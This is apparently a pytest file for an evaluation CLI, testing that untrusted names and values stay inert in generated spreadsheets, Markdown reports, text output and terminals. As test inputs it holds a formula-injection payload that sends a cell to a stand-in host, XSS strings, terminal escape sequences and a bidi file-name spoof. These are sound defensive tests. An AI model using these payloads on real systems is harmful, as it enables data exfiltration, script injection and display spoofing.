"""Text from data never acts in what users open (issue 13): spreadsheet
formulas, Markdown/HTML in reports, forged lines in text output, bidi controls
in names, terminal escape sequences."""
from __future__ import annotations

import csv
import io
import json
import re
import shutil
import string
import sys
from decimal import Decimal
from pathlib import Path
from unittest import mock

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from engine.base.printable import BIDI_CONTROLS, one_line, printable
from engine.render.cells import csv_cell, csv_row
from tests.conftest import EXAMPLE_2019, ROOT, RULESET_2019, run_cli

RULESET = str(RULESET_2019)
FORMULA = '=HYPERLINK("http://x.example/?"&C2,"x")'
UNITS_JSONL = ROOT / "tests" / "fixtures" / "batch" / "units.jsonl"
CONTROL = "".join(chr(c) for c in [*range(0x20), *range(0x7F, 0xA0)])


def _first_record() -> dict:
    return json.loads(UNITS_JSONL.read_text(encoding="utf-8").splitlines()[0])


def _jsonl(tmp_path: Path, *names: str) -> Path:
    record = _first_record()
    path = tmp_path / "units.jsonl"
    lines = []
    for name in names:
        record["subject"] = {"name": name}
        lines.append(json.dumps(record, ensure_ascii=False))
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return path


def _example(tmp_path: Path, name: str | None = None, explanation: str | None = None) -> Path:
    text = EXAMPLE_2019.read_text(encoding="utf-8")
    if name is not None:
        text = text.replace("  name: 武汉经济技术开发区（汉南区）人力资源局\n", f"  name: {json.dumps(name, ensure_ascii=False)}\n", 1)
    if explanation is not None:
        text = text.replace("explanation: 主要是由于2019年度未开展相关培训工作。", f"explanation: {json.dumps(explanation, ensure_ascii=False)}", 1)
    path = tmp_path / "unit.yaml"
    path.write_text(text, encoding="utf-8")
    return path


def _cells(path: Path):
    from openpyxl import load_workbook

    book = load_workbook(path)
    for ws in book.worksheets:
        for row in ws.iter_rows():
            yield from row


# --- spreadsheets ---------------------------------------------------------------

@pytest.mark.parametrize("suffix", ["xlsx", "csv"])
def test_batch_tables_store_a_formula_name_as_text(tmp_path, suffix):
    names = [FORMULA, "+1+1", "-2+3", "@SUM(A1)", "\tx", "普通单位"]
    out = tmp_path / f"r.{suffix}"
    code, _, err = run_cli("batch", str(_jsonl(tmp_path, *names)), "--ruleset", RULESET, "--output", str(out))
    assert code == 0, err
    if suffix == "xlsx":
        from openpyxl import load_workbook

        ws = load_workbook(out).worksheets[0]
        column = [row[1] for row in ws.iter_rows(min_row=2)]
        assert [c.value for c in column] == names
        assert {c.data_type for c in column} == {"s"}
        assert not [c.coordinate for c in _cells(out) if c.data_type == "f"]
        totals = [row[2] for row in ws.iter_rows(min_row=2)]
        assert {c.data_type for c in totals} == {"n"}  # numbers stay numbers
    else:
        rows = list(csv.reader(io.StringIO(out.read_text(encoding="utf-8-sig"))))
        assert [r[1] for r in rows[1:]] == ["'" + FORMULA, "'+1+1", "'-2+3", "'@SUM(A1)", "'\tx", "普通单位"]
        assert [r[2] for r in rows[1:]] == ["87.36"] * 6  # a number, not '87.36


def test_csv_cells_neutralise_formula_starts_but_keep_numbers():
    assert csv_row(["=1+1", "+1", "-1", "@x", "\tx", "\rx", "a=b", Decimal("-41.17"), -3, None]) == [
        "'=1+1", "'+1", "'-1", "'@x", "'\tx", "'\rx", "a=b", Decimal("-41.17"), -3, None,
    ]


@settings(max_examples=200, deadline=None)
@given(st.text(alphabet=st.sampled_from("=+-@\t\r\"',;a中1 ")))
def test_no_csv_text_cell_starts_a_formula(text):
    cell = csv_cell(text)
    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert cell in (text, "'" + text)


@settings(max_examples=60, deadline=None)
@given(st.lists(st.text(alphabet=st.sampled_from("=+-@()\"&,A1中 x"), min_size=1), min_size=1, max_size=5))
def test_any_text_written_to_a_workbook_reads_back_as_the_same_text(texts):
    """Both workbook writers (forms in normal mode, batch rows in write-only
    mode) store text as text cells, whatever it starts with."""
    from openpyxl import Workbook, load_workbook

    from engine.render.cells import write_only_row
    from engine.render.document import Cell, Grid
    from engine.render.xlsx_out import workbook

    grid = Grid("t", tuple(Cell(0, i, t) for i, t in enumerate(texts)), tuple(10 for _ in texts))
    forms = load_workbook(io.BytesIO(workbook([grid], [("engine", texts[0])], {}))).worksheets
    got = [c for ws in forms for row in ws.iter_rows() for c in row if c.value is not None]
    assert {c.data_type for c in got} == {"s"}
    assert [c.value for c in forms[0][2][: len(texts)]] == texts

    book = Workbook(write_only=True)
    ws = book.create_sheet("x")
    ws.append(write_only_row(ws, [*texts, Decimal("-1.5")]))
    out = io.BytesIO()
    book.save(out)
    row = list(load_workbook(out).worksheets[0].iter_rows())[0]
    assert [c.value for c in row] == [*texts, -1.5]
    assert [c.data_type for c in row] == ["s"] * len(texts) + ["n"]


def _only_our_formulas(cells) -> bool:
    """The only formulas are the forms' own totals (issue 16: 总分 = SUM over the
    indicators' cells, the summary's sums and rates), never text from the data."""
    formulas = [str(c.value) for c in cells if c.data_type == "f"]
    return bool(formulas) and all(re.fullmatch(r"=(SUM|IF)\((SUM|SUMPRODUCT|ROUND|[A-H]|[0-9]|[:,()=\"/])*\)", f) for f in formulas)


def test_evaluate_xlsx_keeps_name_and_explanation_as_text(tmp_path):
    data = _example(tmp_path, name=FORMULA, explanation="=1+1")
    out = tmp_path / "forms.xlsx"
    code, _, err = run_cli("evaluate", str(data), "--ruleset", RULESET, "--format", "xlsx", "--output", str(out))
    assert code == 0, err
    cells = list(_cells(out))
    assert _only_our_formulas(cells)
    assert FORMULA in {c.value for c in cells} and "=1+1" in {c.value for c in cells}


def test_evaluate_xlsx_keeps_indicator_names_as_text(tmp_path):
    ruleset = tmp_path / "department.yaml"
    ruleset.write_text(RULESET_2019.read_text(encoding="utf-8").replace("name: 预算执行率", 'name: "=预算执行率"', 1), encoding="utf-8")
    data = tmp_path / "unit.yaml"  # the unit's report texts name the indicator too
    data.write_text(EXAMPLE_2019.read_text(encoding="utf-8").replace("    预算执行率: 2019年度", '    "=预算执行率": 2019年度', 1), encoding="utf-8")
    out = tmp_path / "forms.xlsx"
    code, _, err = run_cli("evaluate", str(data), "--ruleset", str(ruleset), "--format", "xlsx", "--output", str(out))
    assert code == 0, err
    cells = list(_cells(out))
    assert "=预算执行率" in {c.value for c in cells}
    assert _only_our_formulas(cells)


def test_project_summary_workbook_keeps_names_as_text(tmp_path):
    folder = tmp_path / "projects"
    shutil.copytree(ROOT / "examples" / "2019" / "projects", folder, ignore=shutil.ignore_patterns("*.md"))
    path = folder / "cadre-training.yaml"
    text = path.read_text(encoding="utf-8")
    lines = text.splitlines()
    i = next(i for i, line in enumerate(lines) if line.startswith("  name:"))
    lines[i] = f"  name: {json.dumps(FORMULA)}"
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    out = tmp_path / "summary.xlsx"
    code, _, err = run_cli("evaluate", str(folder), "--ruleset", str(ROOT / "rulesets/2019/project.yaml"), "--format", "xlsx", "--output", str(out))
    assert code == 0, err
    cells = list(_cells(out))
    assert FORMULA in {c.value for c in cells}
    assert _only_our_formulas(cells)


# --- Markdown -------------------------------------------------------------------

HOSTILE_MARKDOWN = [
    "<script>alert(1)</script>",
    '<img src=x onerror="alert(1)">',
    "[x](javascript:alert(1))",
    "![x](http://x.example/t.png)",
    "<http://x.example>",
    "# 标题\n- 列表\n> 引用",
    "**粗** _斜_ `代码` | 管道 \\ 反斜杠 &amp; ~~删~~",
]


def _html_of(markdown: str) -> str:
    from markdown_it import MarkdownIt

    return MarkdownIt("commonmark").enable("table").render(markdown)


def test_markdown_report_shows_hostile_names_and_explanations_as_text(tmp_path):
    data = _example(tmp_path, name=HOSTILE_MARKDOWN[0] + HOSTILE_MARKDOWN[2], explanation=HOSTILE_MARKDOWN[1] + HOSTILE_MARKDOWN[3])
    code, out, err = run_cli("evaluate", str(data), "--ruleset", RULESET, "--format", "markdown")
    assert code == 0, err
    html = _html_of(out)
    for bad in ("<script", "<img", "<a ", "href=\"", "src=\""):
        assert bad not in html
    assert "&lt;script&gt;alert(1)&lt;/script&gt;[x](javascript:alert(1))" in html


@settings(max_examples=300, deadline=None)
@given(st.text(alphabet=st.sampled_from(string.punctuation + " \nax中1"), min_size=1))
def test_escaped_markdown_renders_as_the_literal_text(text):
    """Any text, escaped, renders as one paragraph holding exactly that text
    (newlines as spaces): no element, link, image, heading or list."""
    from html import unescape

    from engine.render.markdown_out import _line

    flat = " ".join(text.splitlines()).strip()
    if not flat:
        return
    html = _html_of(_line(text)).strip()
    assert html.startswith("<p>") and html.endswith("</p>") and html.count("<") == 2, html
    assert " ".join(unescape(html[3:-4]).split()) == " ".join(flat.split())


# --- text output ----------------------------------------------------------------

def test_a_newline_in_a_name_cannot_forge_a_line_of_text_output(tmp_path):
    data = _example(tmp_path, name="某局\n\n总分: 99.50    等级: 优\n")
    code, out, err = run_cli("evaluate", str(data), "--ruleset", RULESET)
    assert code == 0, err
    totals = [line for line in out.splitlines() if line.startswith("总分")]
    assert totals == ["总分: 87.36    等级: 良"]
    assert out.splitlines()[0].endswith("— 某局\\n\\n总分: 99.50    等级: 优\\n")


@pytest.mark.parametrize("where", ["subject", "row"])
@pytest.mark.parametrize("control", ["\u202e", "\u2066", "\u200f"])
def test_bidi_controls_in_names_are_refused_located(tmp_path, where, control):
    if where == "subject":
        data = _example(tmp_path, name=f"某局{control}gpj.exe")
        at = f"{data}:7:9"
    else:
        text = EXAMPLE_2019.read_text(encoding="utf-8").replace("{name: 基本支出,", f'{{name: "基本{control}支出",', 1)
        data = tmp_path / "unit.yaml"
        data.write_text(text, encoding="utf-8")
        at = f"{data}:50:"
    code, out, err = run_cli("evaluate", str(data), "--ruleset", RULESET)
    assert code == 1 and out == ""
    line = next(line for line in err.splitlines() if "方向控制符" in line)
    assert line.startswith(at), line
    assert f"U+{ord(control):04X}" in line and control not in err


# --- the terminal ---------------------------------------------------------------

@settings(max_examples=300, deadline=None)
@given(st.text())
def test_printable_text_holds_no_control_and_one_line_no_line_break(text):
    shown = printable(text)
    assert not any(ch in CONTROL + BIDI_CONTROLS and ch not in "\n\t" for ch in shown)
    assert not any(0xD800 <= ord(ch) <= 0xDFFF for ch in shown)
    line = one_line(text)
    assert not any(ch in CONTROL + BIDI_CONTROLS + "\u2028\u2029" for ch in line)
    if not any(ch in CONTROL + BIDI_CONTROLS + "\u2028\u2029\\" for ch in text) and not any(0xD800 <= ord(ch) <= 0xDFFF for ch in text):
        assert line == text == shown


ESCAPES = ["\x1b[2J\x1b[H", "\x1b]0;pwned\x07", "\x1b]8;;http://x.example\x1b\\link\x1b]8;;\x1b\\", "\x9b31m", "\x07\x08\x00"]


@pytest.mark.parametrize("escape", ESCAPES)
def test_escape_sequences_from_jsonl_values_never_reach_stderr(tmp_path, escape):
    record = _first_record()
    record["inputs"]["文中实际支出"] = escape
    record["subject"] = {"name": "单位" + escape}
    path = tmp_path / "units.jsonl"
    path.write_text(json.dumps(record, ensure_ascii=False) + "\n", encoding="utf-8")
    code, out, err = run_cli("batch", str(path), "--ruleset", RULESET, "--output", str(tmp_path / "r.jsonl"))
    assert code == 1
    assert not any(ch in CONTROL.replace("\n", "") for ch in out + err)
    # Refused where it is read (issue 13: a control character in any input text is
    # that unit's located error), named by its code point; or shown escaped.
    assert "内容中有不可见的控制字符" in err or "\\x1b" in err or "\\x9b" in err or "\\x07" in err


def test_escape_sequences_in_csv_headers_cells_and_file_names_never_reach_the_terminal(tmp_path):
    folder = tmp_path / "units"
    folder.mkdir()
    (folder / "bad\x1b]0;pwned\x07.yaml").write_text("subject: x\ninputs: [\n", encoding="utf-8")
    table = tmp_path / "units.csv"
    table.write_text("名称,文中实际支出\x1b[31m\n某局\x1b[2J,1\n", encoding="utf-8")
    for target in (str(folder), str(table)):
        code, out, err = run_cli("batch", target, "--ruleset", RULESET, "--output", str(tmp_path / "r.jsonl"))
        assert code == 1
        assert "\x1b" not in out + err and "\x07" not in out + err
        assert "\\x1b" in err or "内容中有不可见的控制字符 U+001B" in err  # shown escaped, or refused at input by code point


class _Tty(io.StringIO):
    def isatty(self) -> bool:
        return True


def _let_controls_past_the_reader(monkeypatch) -> None:
    """Control characters are refused where a JSONL record is read (issue 13,
    tests/test_hostile_inputs.py). The writers escape them all the same: defence
    in depth, proven here with the reader's check switched off."""
    import re

    from engine.load import json_line

    monkeypatch.setattr(json_line, "_RAW_CONTROL", re.compile(r"(?!)"))
    monkeypatch.setattr(json_line, "_RAW_C1_UTF8", re.compile(rb"(?!)"))
    monkeypatch.setattr(json_line, "_ESCAPES", re.compile(r"(?!)"))


def _no_progress_bar():
    """Without the progress bar: its own escape sequences (rich, when the progress extra is
    installed) are jixiao's, not the data's; then nothing on the terminal may be an escape."""
    return mock.patch.dict(sys.modules, {"rich": None, "rich.console": None, "rich.progress": None})


def test_results_printed_to_a_terminal_show_escapes_not_act_on_them(tmp_path, monkeypatch):
    from engine import cli

    _let_controls_past_the_reader(monkeypatch)
    stdout, stderr = _Tty(), _Tty()
    with _no_progress_bar():
        code = cli.main(["batch", str(_jsonl(tmp_path, "单位\x1b]0;pwned\x07", "\x9b2J")), "--ruleset", RULESET, "--format", "csv"], stdout, stderr)
    assert code == 0, stderr.getvalue()
    shown = stdout.getvalue() + stderr.getvalue()
    assert "\x1b" not in shown and "\x07" not in shown and "\x9b" not in shown
    assert "单位\\x1b]0;pwned\\x07" in stdout.getvalue()


def test_results_to_a_pipe_are_the_bytes_as_they_are(tmp_path, monkeypatch):
    out = io.StringIO()
    from engine import cli

    _let_controls_past_the_reader(monkeypatch)
    code = cli.main(["batch", str(_jsonl(tmp_path, "单位\x9b")), "--ruleset", RULESET], out, io.StringIO())
    assert code == 0
    assert json.loads(out.getvalue())["subject"]["name"] == "单位\x9b"


@settings(max_examples=40, deadline=None)
@given(st.text(alphabet=st.sampled_from([*CONTROL.replace("\n", ""), *BIDI_CONTROLS, "\ud800", "[", "]", "0", "中", ";"]), min_size=1, max_size=12))
def test_no_control_character_from_a_jsonl_record_reaches_the_terminal(garbage):
    """Any control (C0, C1, DEL; a tab is harmless and kept), lone surrogate or bidi control in a record's
    name and figures: whatever the record becomes (a result or an error), the
    terminal shows it escaped."""
    from engine import cli

    record = _first_record()
    record["subject"] = {"name": "单位" + garbage}
    record["inputs"]["文中实际支出"] = garbage
    text = json.dumps(record, ensure_ascii=True)  # \\u escapes: the line itself is clean JSON
    import tempfile

    with tempfile.TemporaryDirectory() as tmp:
        path = Path(tmp) / "u.jsonl"
        path.write_text(text + "\n", encoding="utf-8")
        stdout, stderr = _Tty(), _Tty()
        with _no_progress_bar():
            cli.main(["batch", str(path), "--ruleset", RULESET], stdout, stderr)
    shown = stdout.getvalue() + stderr.getvalue()
    bad = [ch for ch in shown if (ch in CONTROL and ch not in "\n\t") or ch in BIDI_CONTROLS or 0xD800 <= ord(ch) <= 0xDFFF]
    assert bad == [], [hex(ord(ch)) for ch in bad]
